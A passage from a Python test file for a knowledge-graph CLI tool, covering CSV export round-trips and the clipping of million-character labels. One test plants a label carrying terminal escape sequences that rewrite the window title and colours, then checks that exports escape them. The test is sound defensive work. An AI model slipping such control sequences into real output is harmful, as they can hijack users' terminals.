    turtle = "".join(f'<https://e/n{i}> <https://schema.org/name> {json.dumps(text)} .\n'
                     for i, text in enumerate(texts))
    path = _write(tmp_path, "breaks.ttl", turtle)
    out = tmp_path / "out"
    out.mkdir()
    assert cli("export", "-g", str(path), "--format", "csv", "-o", str(out / "x")).code == 0
    with (out / "x-nodes.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {row["id"]: restore(row["label"]) for row in rows} == {
        f"https://e/n{i}": text for i, text in enumerate(texts)}
    query = cli("query", "-g", str(path), "--format", "csv", "-e",
                "SELECT ?x ?n WHERE { ?x schema:name ?n } ORDER BY ?x")
    read = list(csv.reader(io.StringIO(query.stdout, newline="")))
    assert [restore(row[1]) for row in read[1:]] == texts


def test_exports_hold_no_control_characters_that_would_drive_a_terminal(
        tmp_path: Path) -> None:
    # A label that sets the terminal's title and colours when someone runs `cat her.ttl`.
    hostile = "Eve\x1b]0;pwned\x07\x1b[31m red \x00\x85 end"
    path = _write(tmp_path, "ansi.nt", f'<https://e/a> <https://schema.org/name> '
                                       f'{json.dumps(hostile)} .\n')
    kg = graph.load(path)
    turtle = render(kg, "ttl")
    assert not re.search(rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]", turtle)
    assert b"\\u001B]0;pwned\\u0007" in turtle
    back = _write(tmp_path, "back.ttl", turtle)
    assert isomorphic(graph.load(back).rdf, kg.rdf)
    shown = cli("query", "-g", str(path), "-e", "SELECT ?n WHERE { ?s schema:name ?n }")
    assert "\x1b" not in shown.stdout and "\\u001B]0;pwned" in shown.stdout


# ---------------------------------------------------------------------------------------------
# Beyond the list: million-character labels load, and the page and the terminal stay usable


@pytest.fixture(scope="module")
def long_labels(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return long_label_story(tmp_path_factory.mktemp("long"))


def test_million_character_labels_load_and_the_page_clips_what_it_shows(
        long_labels: Path) -> None:
    from graph.page.data import page_data
    from graph.page.html import render_html
    from graph.page.model import page_model

    for store in LOCAL_STORES:
        assert len(graph.load(long_labels, store=store)) > 100
    kg = graph.load(long_labels)
    data = page_data(page_model(kg))
    longest = max(data["nodes"], key=lambda n: len(n["name"]))
    assert len(longest["name"]) > 1_000_000  # the full text is in the page's data
    assert all(len(n["label"]) <= 44 for n in data["nodes"])  # drawn on the canvas: clipped
    page = render_html(kg)
    heading = page.split("<h1>", 1)[1].split("</h1>", 1)[0]
    assert len(heading) < 1000 and "…" in heading
    assert len(page.split("<title>", 1)[1].split("</title>", 1)[0]) < 1000


def test_a_terminal_table_clips_a_million_character_cell(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    from graph.cli import common

    monkeypatch.setattr(common, "stdout_is_terminal", lambda: True)
    common.print_table(("name", "n"), [("x" * 1_000_000, 1), ("Amy", 2)], numeric=("n",))
    shown = capsys.readouterr().out
    assert "Amy" in shown and "more characters" in shown and len(shown) < 20_000
    monkeypatch.setattr(common, "stdout_is_terminal", lambda: False)
    common.print_table(("name",), [("x" * 1_000_000,)])
    assert "x" * 1_000_000 in capsys.readouterr().out  # a pipe gets every character


# In a real browser (tooltip and details panel clipped, long words wrapped):
# tests/page/test_browser.py::test_million_character_texts_are_clipped_where_shown
